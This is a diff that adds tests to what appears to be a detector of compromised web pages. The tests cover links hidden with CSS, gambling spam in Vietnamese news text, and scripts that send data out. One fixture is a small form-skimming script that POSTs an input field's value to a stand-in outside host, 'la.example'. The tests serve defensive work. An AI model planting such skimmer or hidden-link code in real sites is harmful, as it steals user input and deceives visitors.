@@ -22,6 +22,38 @@ describe('links-added', () => {
     expect(cuesOf('links-added', bare('a', icon) + bare('b', icon) + bare('c', '<img src="/b.png">'))).toEqual([]);
   });
 
+  test('icons without words lead to services that people know, not to four strangers', () => {
+    const icon = (host: string) => `<a href="https://${host}.example/"><i class="icon"></i></a>`;
+    expect(cuesOf('links-added', icon('a') + icon('b') + icon('c'))).toEqual([]);
+    expect(cuesOf('links-added', icon('a') + icon('b') + icon('c') + icon('d'))).toContain(
+      'links-added.learned.hidden-flock',
+    );
+  });
+  test('links under a class or id that a sheet of the page puts out of sight, in no way that menus take', () => {
+    const sheet = (rule: string) => `<style>.x { ${rule} } @media print { .y { left: -9999px } }</style>`;
+    const link = (at: number) => `<a href="https://a.example/${at}">Tin ${at}</a>`;
+    const three = [1, 2, 3].map(link).join('');
+    const under = (rule: string, names: string) =>
+      cuesOf('links-added', `${sheet(rule)}<div class="${names}">${three}</div>`);
+    expect(under('position: absolute; left: -4000px', 'a x b')).toEqual([
+      'links-added.learned.hidden',
+      'links-added.learned.disguised',
+      'links-added.learned.hidden-flock',
+    ]);
+    expect(under('display: none', 'x')).toEqual([]);
+    expect(under('position: absolute; left: -4000px', 'xx')).toEqual([]);
+    expect(under('color: red', 'x y')).toEqual([]);
+    expect(cuesOf('links-added', `${sheet('clip: rect(0 0 0 0)')}<p class="x">${link(1)}</p>`)).not.toContain(
+      'links-added.learned.hidden-flock',
+    );
+  });
+  test('at first sight six strangers behind links that are out of sight are more than three', () => {
+    const off = (count: number) =>
+      Array.from({ length: count }, (_, i) => `<a href="https://s${i}.example/" style="left:-999px">s</a>`).join('');
+    expect(cuesOf('links-added', off(5), null)).not.toContain('links-added.first-sight.disguised-flock');
+    expect(cuesOf('links-added', off(6), null)).toContain('links-added.first-sight.disguised-flock');
+  });
+
   const spam = (at: string) => `<a href="https://${at}.example/gacor">Slot gacor</a>`;
   test('hidden spam, spam in view and hidden links are told apart', () => {
     expect(cuesOf('links-added', `<div style="display:none">${spam('a')}</div>`)).toContain(
@@ -183,4 +215,35 @@ test('head-changed speaks only of what was the same on every look', () => {
   const moving = learned([look(page('Tin một')), look(page('Tin hai'))]);
   expect(said('head-changed', look(page('Khác')), still)).toHaveLength(1);
   expect(said('head-changed', look(page('Khác')), moving)).toEqual([]);
+});
+
+describe('spam-words in news of crime', () => {
+  const news = '<p>Công an xã cảnh báo nhà cái, tài xỉu và lô đề trên mạng.</p>';
+  const stranger = '<a href="https://la.example/">xem</a>';
+  test('what the police say of betting is no offer, as long as it leads to no stranger', () => {
+    expect(cuesOf('spam-words', news)).toEqual([]);
+    expect(cuesOf('spam-words', news + stranger)).not.toEqual([]);
+    expect(cuesOf('spam-words', news.replace('Công an', 'Sòng'))).not.toEqual([]);
+  });
+  test('an offer beside such news counts in full', () => {
+    const offer = '<p>Nhà cái, tài xỉu, slot gacor, lô đề, casino: vào ngay.</p>';
+    expect(cuesOf('spam-words', news + offer)).toEqual(cuesOf('spam-words', offer));
+  });
+});
+
+describe('data-sent', () => {
+  const sent = (to: string) =>
+    said(
+      'data-sent',
+      look(
+        portalWith(
+          `<script>var i=document.querySelector('input');i.onchange=function(){fetch(${to},{method:'POST',body:i.value})}</script>`,
+        ),
+      ),
+      plain,
+    );
+  test('to an unknown or foreign address is new; to the own server it is what a rebuilt form does', () => {
+    expect(sent("'https://la.example/'")[0]?.cues).toEqual(['data-sent.learned.typed-away']);
+    for (const own of ["'/gui'", 'atob(x)']) expect(sent(own)[0]?.cues).toEqual(['data-sent.learned.typed']);
+  });
 });
